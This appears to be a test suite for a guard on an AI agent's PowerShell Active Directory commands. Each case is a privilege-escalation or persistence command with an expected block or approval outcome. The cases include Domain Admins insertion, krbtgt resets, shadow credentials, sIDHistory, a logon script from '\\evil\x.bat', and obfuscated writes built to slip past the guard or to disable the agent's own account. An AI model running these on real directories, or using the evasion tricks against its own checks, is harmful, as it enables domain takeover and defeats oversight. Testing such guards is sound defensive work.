#== Domain Admins by name => rule:protected-object
Add-ADGroupMember 'Domain Admins' -Members ada

#== Domain Admins by distinguished name => rule:protected-object
Add-ADGroupMember 'cn=domain admins,cn=USERS,dc=Lab,DC=test' -Members ada

#== Domain Admins by a distinguished name with blanks => error:*
Add-ADGroupMember 'CN=Domain Admins, CN=Users,DC=lab,DC=test' -Members ada

#== Domain Admins by a distinguished name with escapes => rule:protected-object
Add-ADGroupMember 'CN=Domain\20Admins,CN=Users,DC=lab,DC=test' -Members ada

#== Domain Admins by SID => rule:protected-object
$sid = (Get-ADGroup 'Domain Admins').SID
Add-ADGroupMember "$sid" -Members ada

#== Domain Admins by GUID => rule:protected-object
Add-ADGroupMember (Get-ADGroup 'Domain Admins').ObjectGUID -Members ada

#== Domain Admins from the other side => rule:protected-object
Add-ADPrincipalGroupMembership ada -MemberOf 'Domain Admins'

#== Domain Admins as an attribute => rule:protected-object
Set-ADObject (Get-ADGroup 'Domain Admins').DistinguishedName -Add @{ member = (Get-ADUser ada).DistinguishedName }

#== Domain Admins by a primary group => rule:approval
Set-ADUser ada -Replace @{ primaryGroupID = 512 }

#== Administrators of the domain => rule:protected-object
Add-ADGroupMember 'CN=Administrators,CN=Builtin,DC=lab,DC=test' -Members ada

#== Account Operators => rule:protected-object
Add-ADGroupMember S-1-5-32-548 -Members ada

#== DnsAdmins in all but name => rule:protected-object
Set-ADGroup 'Cert Publishers' -Description x

#== a group put into Administrators => rule:protected-object
Add-ADGroupMember Administrators -Members Sales

#== a group of Administrators renamed => rule:protected-object
Rename-ADObject (Get-ADGroup 'Domain Admins') -NewName Friends

#== a group of Administrators emptied => rule:protected-object
Set-ADGroup 'Enterprise Admins' -Clear member

#== the administrator's password => rule:protected-object
Set-ADAccountPassword Administrator -Reset -NewPassword (ConvertTo-SecureString 'Hello-World-12' -AsPlainText -Force)

#== the administrator by RID => rule:protected-object
$domain = (Get-ADDomain).DomainSID
Set-ADAccountPassword "$domain-500" -Reset -NewPassword (ConvertTo-SecureString 'Hello-World-12' -AsPlainText -Force)

#== krbtgt's password => rule:protected-object
Set-ADAccountPassword krbtgt -Reset -NewPassword (ConvertTo-SecureString 'Hello-World-12' -AsPlainText -Force)

#== the agent's own account disabled => rule:protected-object
Disable-ADAccount svc-causeway

#== the agent's own password => rule:protected-object
Set-ADAccountPassword svc-causeway -Reset -NewPassword (ConvertTo-SecureString 'Hello-World-12' -AsPlainText -Force)

#== the agent's own account deleted => rule:protected-object
Remove-ADUser svc-causeway -Confirm:$false

#== the unit with the agent's account deleted => rule:*
Remove-ADOrganizationalUnit 'OU=Service Accounts,DC=lab,DC=test' -Recursive -Confirm:$false

#== the unit with the agent's account deleted as an object => rule:*
Remove-ADObject 'OU=Service Accounts,DC=lab,DC=test' -Recursive -Confirm:$false

#== the container of all administrators deleted => rule:*
Remove-ADObject 'CN=Users,DC=lab,DC=test' -Recursive -Confirm:$false

#== the unit with the agent's account moved => rule:protected-object
Move-ADObject 'OU=Service Accounts,DC=lab,DC=test' -TargetPath 'OU=Staff,DC=lab,DC=test'

#== the unit with the agent's account renamed => rule:protected-object
Rename-ADObject 'OU=Service Accounts,DC=lab,DC=test' -NewName 'Old Accounts'

#== a controller disabled => rule:protected-object
Disable-ADAccount 'DC1$'

#== a controller's computer changed => rule:protected-object
Set-ADComputer DC1 -Description x

#== a controller's computer deleted => rule:protected-object
Get-ADComputer DC1 | Remove-ADComputer -Confirm:$false

#== a controller's computer moved => rule:protected-object
Move-ADObject (Get-ADComputer DC1) -TargetPath 'CN=Computers,DC=lab,DC=test'

#== a computer among the controllers => rule:protected-object
New-ADComputer -Name evil -Path 'OU=Domain Controllers,DC=lab,DC=test'

#== somebody moved among the controllers => rule:protected-object
Move-ADObject (Get-ADUser ada) -TargetPath 'OU=Domain Controllers,DC=lab,DC=test'

#== somebody restored among the controllers => rule:protected-object; changes CN=restored
New-ADUser -Name 'restored' -SamAccountName restored -Path 'OU=Staff,DC=lab,DC=test'
$g = (Get-ADUser restored).ObjectGUID
Remove-ADUser restored -Confirm:$false
Restore-ADObject $g -TargetPath 'OU=Domain Controllers,DC=lab,DC=test'

#== somebody made in Builtin => rule:protected-object
New-ADGroup -Name evil -GroupScope DomainLocal -Path 'CN=Builtin,DC=lab,DC=test'

#== an object in System => rule:protected-object
New-ADObject -Name evil -Type container -Path 'CN=System,DC=lab,DC=test'

#== the template of administrators' rights => rule:protected-object
Set-ADObject 'CN=AdminSDHolder,CN=System,DC=lab,DC=test' -Description x

#== the domain itself => rule:*
Set-ADObject 'DC=lab,DC=test' -Replace @{ 'ms-DS-MachineAccountQuota' = 1000 }

#== the configuration of the forest => error:*
Set-ADObject 'CN=Directory Service,CN=Windows NT,CN=Services,CN=Configuration,DC=lab,DC=test' -Description x

#== the schema => error:*
Set-ADObject 'CN=User,CN=Schema,CN=Configuration,DC=lab,DC=test' -Replace @{ adminDescription = 'x' }

#== a group policy => rule:*
Get-ADObject -Filter { ObjectClass -eq 'groupPolicyContainer' } -SearchBase 'CN=Policies,CN=System,DC=lab,DC=test' | Select-Object -First 1 | Set-ADObject -Description x

#== a group policy linked => rule:approval
Set-ADObject 'OU=Staff,DC=lab,DC=test' -Replace @{ gPLink = '[LDAP://cn={31B2F340-016D-11D2-945F-00C04FB984F9},cn=policies,cn=system,DC=lab,DC=test;0]' }

#== a service's name, quietly => rule:approval
Set-ADUser ada -Add @{ servicePrincipalName = 'HTTP/dc1.lab.test' }

#== a service's name in splatted words => rule:approval
$more = @{ ('service' + 'Principal' + 'Name') = 'HTTP/x' }
$splat = @{ Identity = 'ada'; Replace = $more }
Set-ADUser @splat

#== a service's name through another cmdlet => rule:approval
Set-ADObject (Get-ADUser ada) -Add @{ servicePrincipalName = 'HTTP/x' }

#== a service's name by -Instance => rule:*
$u = Get-ADUser ada -Properties servicePrincipalName
$u.servicePrincipalName = 'HTTP/x'
Set-ADUser -Instance $u

#== delegation by the parameter => rule:approval
Set-ADUser ada -TrustedForDelegation $true

#== delegation by a number => rule:approval
Set-ADUser ada -Replace @{ userAccountControl = 590336 }

#== resource-based delegation => rule:*
Set-ADComputer DC1 -PrincipalsAllowedToDelegateToAccount ada

#== resource-based delegation in bytes => rule:blocked
Set-ADObject (Get-ADUser ada) -Replace @{ 'msDS-AllowedToActOnBehalfOfOtherIdentity' = [byte[]](1, 0, 4, 128) }

#== a key that logs on => rule:blocked
Set-ADUser ada -Add @{ 'msDS-KeyCredentialLink' = 'B:4:0001:CN=Ada Lovelace,OU=Research,OU=Staff,DC=lab,DC=test' }

#== an old SID => rule:blocked
Set-ADUser ada -Add @{ sIDHistory = "$((Get-ADGroup 'Domain Admins').SID)" }

#== an access list in bytes => rule:blocked
$sd = (Get-ADUser ada -Properties nTSecurityDescriptor).nTSecurityDescriptor
Set-ADObject (Get-ADUser ada) -Replace @{ nTSecurityDescriptor = [byte[]](1, 0, 4, 128, 0, 0, 0, 0) }

#== a program at each logon => rule:approval
Get-ADUser -Filter * -SearchBase 'OU=Research,OU=Staff,DC=lab,DC=test' | Set-ADUser -ScriptPath '\\evil\x.bat'

#== no preauthentication => rule:approval
Set-ADAccountControl ada -DoesNotRequirePreAuth $true

#== the password rules => rule:approval
Set-ADDefaultDomainPasswordPolicy -Identity lab.test -MinPasswordLength 0 -ComplexityEnabled $false

#== a password as bytes => rule:*
Set-ADUser ada -Replace @{ unicodePwd = [System.Text.Encoding]::Unicode.GetBytes('"Hello-World-12"') }

#== a new account with a service's name => rule:approval
New-ADUser -Name evil -OtherAttributes @{ servicePrincipalName = 'HTTP/x' }

#== a new account with everything on => rule:approval
New-ADUser -Name evil -TrustedForDelegation $true -Enabled $true

#== a new object of a class of power => error:*
New-ADObject -Name evil -Type trustedDomain -Path 'OU=Staff,DC=lab,DC=test'

#== a new object that is a user, past the user's rules => error:*
New-ADObject -Name evil -Type user -Path 'OU=Staff,DC=lab,DC=test' -OtherAttributes @{ userAccountControl = 66080 }

#== an object piped with another one's name => none
$o = Get-ADUser ada | Select-Object ObjectGUID, DistinguishedName, SamAccountName
$o.DistinguishedName = 'CN=Administrator,CN=Users,DC=lab,DC=test'
$o.SamAccountName = 'Administrator'
try { (Get-ADUser -Identity $o.ObjectGUID).SamAccountName } catch { 'stopped' }

#== an object piped with another one's GUID => rule:protected-object
$o = Get-ADUser ada
$admin = (Get-ADUser Administrator).ObjectGUID
$fake = [pscustomobject]@{ PSTypeName = 'Microsoft.ActiveDirectory.Management.ADUser'; ObjectGUID = $admin; DistinguishedName = $o.DistinguishedName }
$fake | Set-ADUser -Title x

#== a group's name where a user is meant => error:ADIdentityNotFoundException
Set-ADUser Sales -Title x

#== a computer's name where a user is meant => error:ADIdentityNotFoundException
Set-ADUser 'DC1$' -Title x

#== a user's distinguished name where a group is meant => error:*
Set-ADGroup 'CN=Ada Lovelace,OU=Research,OU=Staff,DC=lab,DC=test' -Description x

#== a user's GUID where a computer is meant => error:*
Remove-ADComputer (Get-ADUser ada).ObjectGUID -Confirm:$false

#== everybody by a star => error:*
Remove-ADUser '*' -Confirm:$false

#== everybody by a filter in a name => error:*
Set-ADUser '*)(objectClass=*' -Title x

#== writes behind a read => rule:protected-object
Get-ADGroupMember 'Domain Admins' | ForEach-Object { Set-ADUser $_.SamAccountName -Title x }

#== a write in a calculated property => rule:protected-object
Get-ADUser krbtgt | Select-Object Name, @{ n = 'x'; e = { Set-ADUser $_.SamAccountName -Title x } } | Out-Null
Set-ADUser krbtgt -Title x

#== a write in a Where-Object => rule:protected-object
Get-ADUser Administrator | Where-Object { Disable-ADAccount $_.SamAccountName; $true } | Out-Null

#== a write in a finally => rule:protected-object
try { throw 'x' } finally { Disable-ADAccount Administrator }

#== a write in an argument completer's name => rule:protected-object
$name = 'Disable-AD' + 'Account'
& $name -Identity Administrator

#== a write by Invoke-Expression => rule:protected-object
$text = 'Disable-ADAccount Administrator'
& ([scriptblock]::Create($text))

#== a write in a class's constructor => rule:protected-object
class Trojan { Trojan() { Disable-ADAccount Administrator } }
$null = [Trojan]::new()

#== a write in a property's getter => rule:protected-object
$o = [pscustomobject]@{} | Add-Member -MemberType ScriptProperty -Name x -Value { Disable-ADAccount Administrator } -PassThru
$o.x

#== a preference that hides => rule:protected-object
$ErrorActionPreference = 'SilentlyContinue'
$WhatIfPreference = $false; $ConfirmPreference = 'None'
Disable-ADAccount Administrator
Disable-ADAccount krbtgt 2>$null

#== another server from a script => rule:catalogue
Set-ADUser ada -Title x -Server evil.example

#== another credential from a script => rule:catalogue
$c = [pscredential]::new('x', (ConvertTo-SecureString 'x' -AsPlainText -Force))
Get-ADUser ada -Credential $c

#== another partition from a script => rule:catalogue
Get-ADObject 'CN=Sites,CN=Configuration,DC=lab,DC=test' -Partition 'CN=Configuration,DC=lab,DC=test'
